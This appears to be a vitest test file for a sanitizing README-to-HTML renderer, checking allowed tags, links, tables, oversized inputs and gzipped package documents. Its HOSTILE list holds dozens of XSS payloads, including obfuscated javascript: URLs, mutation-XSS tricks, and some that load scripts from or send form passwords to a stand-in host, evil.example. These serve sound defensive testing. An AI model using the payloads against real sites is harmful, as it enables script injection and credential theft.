import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { renderReadme } from "./render-readme.ts";

async function htmlOf(readme: string, readmeFilename = "README.md"): Promise<string> {
  const { output } = await renderReadme({ readme, readmeFilename });
  return output.html ?? "";
}

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*"| [a-z]+)*) ?\/?>/g;
const ATTRIBUTE = / ([a-z]+)(?:="([^"]*)")?/g;
const TAGS = new Set(
  [
    "h1 h2 h3 h4 h5 h6 p div span blockquote pre code kbd samp var ul ol li dl dt dd hr br wbr details summary",
    "table caption thead tbody tfoot tr th td a b strong i em s del ins u small sub sup mark q cite abbr",
  ].flatMap((tags) => tags.split(" ")),
);
const PLAIN_ATTRIBUTES = new Set("class align title rel start colspan rowspan open".split(" "));

/** Says what of a text is more than text and harmless tags, as a browser would read it. */
function harmIn(html: string): string[] {
  const tags = [...html.matchAll(TAG)];
  const attributes = tags.flatMap(([, , text = ""]) => [...text.matchAll(ATTRIBUTE)]);
  return [
    ...tags.flatMap(([, tag = ""]) => (TAGS.has(tag) ? [] : [tag])),
    ...attributes.flatMap(([text, name = "", value = ""]) => (isHarmless(name, value) ? [] : [text])),
    ...(html.replace(TAG, "").includes("<") ? [html] : []),
  ];
}

function isHarmless(name: string, value: string): boolean {
  if (name === "href") return /^(?:https?:\/\/|mailto:|#readme-)/.test(value);
  return name === "id" ? value.startsWith("readme-") : PLAIN_ATTRIBUTES.has(name);
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  '<img src=x onerror="alert(1)">',
  "<img src=`javascript:alert(1)`>",
  '<img """><script>alert(1)</script>">',
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror="alert(1)"></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<plaintext><img src=x onerror=alert(1)>",
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url("https://evil.example/")}</style>',
  '<p style="background:url(javascript:alert(1))" class="modal" onclick=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/api/v1/session">x</a>',
  '<a href="https://ada:secret@evil.example/">x</a>',
  "[x](javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  '![x](https://evil.example/pixel.png "t\\" onerror=\\"alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  '```"><img/src=x/onerror=alert(1)>\nx\n```',
  '# x {#id onclick=alert(1)}\n\n<h1 id="root">x</h1>',
  '<input type="password" autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  "<details ontoggle=alert(1) open>x</details>",
  '<div><a name="location" id="document">x</a></div>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php <img src=x onerror=alert(1)> ?>",
  "<a href='x' \u0000onclick=alert(1)>x</a>",
  "<\u0000script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

test.each(HOSTILE)("nothing harmful is left of %j", async (sample) => {
  for (const text of [sample, `before\n\n${sample}\n\nafter`, `| a |\n| - |\n| ${sample} |`]) {
    const html = await htmlOf(text);
    expect(harmIn(html)).toEqual([]);
  }
  expect(harmIn(await htmlOf(sample, "README.txt"))).toEqual([]);
});

test("the look for harm finds some", () => {
  for (const html of [
    "<script>",
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<p id="root">',
    "<p",
    "a < b",
  ]) {
    expect(harmIn(html)).not.toEqual([]);
  }
});

describe("a README keeps what it says", () => {
  test("headings can be linked to within it", async () => {
    expect(await htmlOf("# How to use\n\n[go](#how-to-use)")).toBe(
      '<h1 id="readme-how-to-use">How to use</h1>\n' +
        '<p><a href="#readme-how-to-use" rel="noopener noreferrer nofollow">go</a></p>\n',
    );
  });

  test("links lead to the web and give nothing away", async () => {
    expect(await htmlOf('[a](https://a.example/ "t") [b](./b.md) <ada@example.test>')).toBe(
      '<p><a href="https://a.example/" rel="noopener noreferrer nofollow" title="t">a</a> <a>b</a> ' +
        '<a href="mailto:ada@example.test" rel="noopener noreferrer nofollow">ada@example.test</a></p>\n',
    );
  });

  test("images become links, and within a link their text", async () => {
    expect(await htmlOf('![shot](https://a.example/1.png) <img alt="local" src="./2.png">')).toBe(
      '<p><a href="https://a.example/1.png" rel="noopener noreferrer nofollow">shot</a> <span>local</span></p>\n',
    );
    expect(await htmlOf("[![badge](https://a.example/b.svg)](https://ci.example/)")).toBe(
      '<p><a href="https://ci.example/" rel="noopener noreferrer nofollow"><span>badge</span></a></p>\n',
    );
  });

  test("code says its language, tables and alignment stay", async () => {
    expect(await htmlOf("```js\na < b\n```")).toBe(
      '<pre><code class="language-js">a &lt; b\n</code></pre>\n',
    );
    expect(await htmlOf('<p align="center">x</p>\n\n| a |\n| - |\n| b |')).toContain(
      '<p align="center">x</p>',
    );
  });

  test("one that is no markdown is shown as it is", async () => {
    expect(await htmlOf("a *b* <c>", "README.txt")).toBe("<pre>a *b* &lt;c&gt;</pre>");
  });

  test("there is none where there is none", async () => {
    expect((await renderReadme({ readme: " \n", readmeFilename: "" })).output.html).toBeNull();
  });
});

test.each([
  ["text", "word ".repeat(200_000)],
  ["brackets", "[".repeat(400_000)],
  ["quotes", ">".repeat(400_000)],
  ["tags", "<div>".repeat(80_000)],
  ["emphasis", "*_".repeat(200_000)],
  ["lists", Array.from({ length: 5_000 }, (_, at) => `${" ".repeat(at % 200)}- x`).join("\n")],
  ["links", "[a](".repeat(100_000)],
  ["angles", "<a ".repeat(130_000)],
])("very long %s are cut, and what is left is whole", async (_what, readme) => {
  const { output } = await renderReadme({ readme, readmeFilename: "README.md" });
  expect(output.html?.length ?? 0).toBeLessThan(8 * 1024 ** 2);
  expect(harmIn(output.html ?? "")).toEqual([]);
});

test("the README of a document is found in it", async () => {
  const document = gzipSync(
    JSON.stringify({
      "name": "left",
      "dist-tags": {},
      "versions": {},
      "readme": "# left",
      "readmeFilename": "readme.md",
    }),
  );
  const { output } = await renderReadme({ name: "left", document, sizeBytesMax: 10_000 });
  expect(output).toEqual({ html: '<h1 id="readme-left">left</h1>\n', fileName: "readme.md", isCut: false });
});
